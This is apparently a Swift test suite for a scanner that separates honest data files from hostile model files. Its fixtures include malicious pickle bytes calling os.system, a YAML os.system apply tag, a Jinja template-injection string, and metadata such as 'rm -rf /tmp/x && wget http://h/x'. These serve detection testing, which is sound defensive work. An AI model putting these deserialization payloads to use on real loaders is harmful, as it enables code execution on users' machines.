// SPDX-License-Identifier: Apache-2.0
import Inspection
import MregCore
import Testing

/// Honest files that look like something else at first sight, and hostile ones beside them.
@Suite struct `Honest files` {
    private static func ascii(_ text: String) -> [UInt8] { Array(text.utf8) }

    /// Text whose first letter is an opcode. Python imports nothing from `onst_p1,const_p2`, and
    /// raises an error where a tuple or a dict is called.
    @Test(arguments: [
        ("const_p1,const_p2,const\n0.1,0.2,0.3\n.4,.5,.6\n", "a.csv"),
        ("()(dRI dont know\n.", "a.txt"), ("cat is on the mat.\nso is the dog!\n(tR.", "a.txt"),
        ("x^2 + y^2 = z^2\n", "a.txt"), ("G5lC3dYypKNqZR", "a.bin"),
        ("PckjbPrt2H16\nU/BsRhj6Rq5L9qA7DXEQE62FXOJXjkxW9oegAuJDfFv1MeHR", "a.bin"),
        ("}]{(,t.oo b\n", "a.txt"),
    ])
    func `text is no pickle where the unpickler fails first`(_ text: String, _ name: String) {
        let result = Samples.inspect(Self.ascii(text), name)
        #expect(result.word == .safe, "\(text): \(result.findings)")
    }

    @Test(arguments: ["a.csv", "a.txt", "a.bin", "a.data", "a.md"])
    func `a pickle stays one under any name`(_ name: String) {
        for prefix in ["", "N0", "I1\n0", "(lp0\n0", "ccollections\nOrderedDict\n0"] {
            let result = Samples.inspect(Self.ascii(prefix) + Samples.call, name)
            #expect(result.word != .safe, "\(prefix) \(name)")
        }
        // joblib's unpickler takes a list of arguments as well.
        let list = Samples.inspect(Self.ascii("cos\nsystem\n(S'echo pwned'\nlR."), name)
        #expect(list.word != .safe, "\(name)")
    }

    /// SplitMix64: the same noise on every machine.
    private struct Noise: RandomNumberGenerator {
        var state: UInt64
        mutating func next() -> UInt64 {
            state &+= 0x9e37_79b9_7f4a_7c15
            var word = state
            word = (word ^ (word >> 30)) &* 0xbf58_476d_1ce4_e5b9
            word = (word ^ (word >> 27)) &* 0x94d0_49bb_1331_11eb
            return word ^ (word >> 31)
        }
    }

    @Test func `random text and numbers are never called hostile`() {
        let printable = (9...126).filter { $0 >= 32 || $0 < 14 }.map { UInt8($0) }
        let letters = Self.ascii("ABCcitdRNIVS0123(){}[].,\n")
        for seed in 0..<1500 {
            var noise = Noise(state: UInt64(seed))
            let count = Int.random(in: 20...2000, using: &noise)
            let text = (0..<count).map { _ in
                (seed % 2 == 0 ? printable : letters).randomElement(using: &noise) ?? 0
            }
            let result = Samples.inspect(text, "a.txt")
            #expect(result.word == .safe, "\(seed): \(result.findings)")
            let numbers = (0..<count).map { _ in UInt8.random(in: 0...255, using: &noise) }
            let raw = Samples.inspect(numbers, "a.data-00000-of-00001")
            #expect(raw.level <= .dataOnly, "\(seed): \(raw.findings)")
            #expect(Samples.inspect(numbers, "a.bin").level != .malicious, "\(seed)")
        }
    }

    private static let beginnings: [([UInt8], String)] = {
        var all: [([UInt8], String)] = []
        all.append(([0x80, 0, 0, 0, 0x8b, 0xa8, 0, 0], "a.txt"))
        all.append(([0x80, 3, 0xa5, 0x1c, 0x2e], "a.jpg"))
        all.append((ascii("#!\0\0k1\0\0"), "a.jpg"))
        all.append((ascii("MZ") + [UInt8](repeating: 0x91, count: 80), "a.jpg"))
        all.append(([0x5d, 0, 0, 0, 0x61, 0x5f, 0, 0, 0, 0, 0, 0, 0x81, 0x92, 0xa3], "a.jpg"))
        all.append(([0x1f, 0x8b, 0x77, 0x77, 0x77, 0x77, 0x77], "a.jpg"))
        all.append((ascii("BZh\u{1}www"), "a.jpg"))
        all.append((ascii("{L\0\0,1#www"), "a.jpg"))
        return all
    }()

    /// Numbers, noise and records of which the first bytes happen to be a mark. Python raises
    /// "invalid load key", execve(2) and Windows run nothing, liblzma finds no stream.
    @Test(arguments: beginnings)
    func `data that only begins like a format is data`(_ bytes: [UInt8], _ name: String) {
        let result = Samples.inspect(bytes, name)
        #expect(result.findings.map(\.rule) == ["unknown-content"], "\(bytes)")
    }

    private static let marked: [([UInt8], String, String)] = {
        var all: [([UInt8], String, String)] = []
        all.append(([0x80, 3, 0xa5, 0x1c, 0x2e], "a.pkl", "broken-pickle"))
        all.append((ascii("#! /bin/sh\necho pwned\n"), "a.jpg", "executable-content"))
        all.append((ascii("#!/usr/bin/env\tpython3"), "a", "executable-content"))
        all.append(([0x1f, 0x8b, 0x77, 0x77, 0x77, 0x77, 0x77], "a.gz", "broken-compression"))
        all.append((ascii("{L\0\0,1#www"), "a.ubj", "unreadable"))
        // A dictionary of 1.5 GiB: who spends the memory can read it.
        all.append(
            (
                [0x5d, 0, 0, 0, 0x60] + [UInt8](repeating: 0xff, count: 8) + [0, 1, 2, 3], "a.jpg",
                "broken-compression"
            ))
        return all
    }()

    @Test(arguments: marked)
    func `what is a format is no unknown data, nor what says so`(
        _ bytes: [UInt8], _ name: String, _ rule: String
    ) {
        let rules = Samples.inspect(bytes, name).findings.map(\.rule)
        #expect(rules.contains(rule) && !rules.contains("unknown-content"), "\(bytes) \(rules)")
    }

    @Test func `extension codes are positive, as unpicklers want them`() {
        for (code, rule) in [
            ([0x7f, 0xff, 0xff, 0x7f], "extension-registry"),
            ([0xff, 0xff, 0xff, 0xff], "broken-pickle"), ([0, 0, 0, 0], "broken-pickle"),
        ] as [([UInt8], String)] {
            let rules = Samples.inspect([0x80, 2, 0x84] + code + [0x2e]).findings.map(\.rule)
            #expect(rules.contains(rule), "\(code): \(rules)")
        }
    }

    @Test func `programs of Windows are told by both of their headers`() {
        var program = [UInt8](repeating: 0, count: 128)
        program.replaceSubrange(0..<2, with: Self.ascii("MZ"))
        program[60] = 0x60
        program.replaceSubrange(0x60..<0x64, with: Self.ascii("PE\0\0"))
        #expect(Samples.inspect(program, "a.jpg").findings.map(\.rule) == ["executable-content"])
    }

    @Test func `text in one byte a letter is text, and its tags act all the same`() {
        let latin = Self.ascii("name,ort\nM") + [0xfc] + Self.ascii("ller,K") + [0xf6, 0x6c, 0x6e]
        #expect(Samples.inspect(latin, "a.csv").level == .dataOnly)
        let tag = [0x23, 0xfc] + Self.ascii(" comment\na: !!python/object/apply:os.system [id]\n")
        #expect(Samples.inspect(tag, "a.yaml").level == .malicious)
    }

    @Test func `a document that quotes a template is no template`() {
        let text = Self.ascii("# Attacks\nNever render {{ ''.__class__.__mro__ }} from others.\n")
        #expect(Samples.inspect(text, "README.md").level == .dataOnly)
        #expect(Samples.inspect(text, "chat.jinja").level == .malicious)
    }

    /// gensim keeps names that begin with two underscores; Python's own end with them too.
    @Test func `only names between two pairs of underscores plant anything`() {
        let build = "\u{2}cargparse\nNamespace\n)"
        for (key, isSafe) in [("__numpys", true), ("__class__", false)] {
            let state = [0x7d] + FuzzSeeds.text(key) + [0x4e, 0x73, 0x62, 0x2e]
            let pickle = [0x80] + Self.ascii(build) + [0x81] + state
            #expect((Samples.inspect(pickle).word == .safe) == isSafe, "\(key)")
        }
    }

    /// `pickle.dumps(zoneinfo.ZoneInfo("UTC"))` in Python 3.9 to 3.13.
    @Test func `time zones are made by the one method that they have`() {
        func pickle(_ owner: String, _ method: String) -> [UInt8] {
            [0x80, 2] + Self.ascii("cbuiltins\ngetattr\nc\(owner)\n") + FuzzSeeds.text(method)
                + [0x86, 0x52] + FuzzSeeds.text("UTC") + [0x4b, 1, 0x86, 0x52, 0x2e]
        }
        #expect(Samples.inspect(pickle("zoneinfo\nZoneInfo", "_unpickle")).word == .safe)
        #expect(Samples.inspect(pickle("zoneinfo\nZoneInfo", "no_cache")).word != .safe)
        #expect(Samples.inspect(pickle("os\nsystem", "_unpickle")).word != .safe)
    }

    @Test(arguments: [
        "import os; os.system('echo pwned')", "import base64; exec(base64.b64decode('cA=='))",
        "<script>alert(1)</script>", "chmod 777 /tmp/x", "rm -rf /tmp/x && wget http://h/x",
    ])
    func `metadata that is a program is refused`(_ text: String) {
        let header = #"{"__metadata__":{"a":"\#(text)"}}"#
        let result = Samples.inspect(Samples.safetensors(header, 0), "m.safetensors")
        #expect(result.findings.map(\.rule) == ["metadata-program"])
        #expect(result.level == .needsCode)
    }

    @Test(arguments: [
        "import os is what it does not do", "Run rm -rf build first.", "sh", "os.system('x')",
        "python train.py --lr 1e-4", "see <script> in HTML", "curl and wget were used (a lot)",
    ])
    func `metadata that speaks of programs passes`(_ text: String) {
        let header = #"{"__metadata__":{"a":"\#(text)"}}"#
        #expect(Samples.inspect(Samples.safetensors(header, 0), "m.safetensors").word == .safe)
    }

    @Test func `safetensors headers are objects of texts in UTF-8`() {
        let bad = Samples.number(4, 8) + Self.ascii("{\"") + [0xff] + Self.ascii("}")
        #expect(Samples.inspect(bad, "m.safetensors").level == .unreadable)
        let list = Samples.safetensors(#"{"__metadata__":["a"]}"#, 0)
        #expect(Samples.inspect(list, "m.safetensors").level == .unreadable)
    }
}
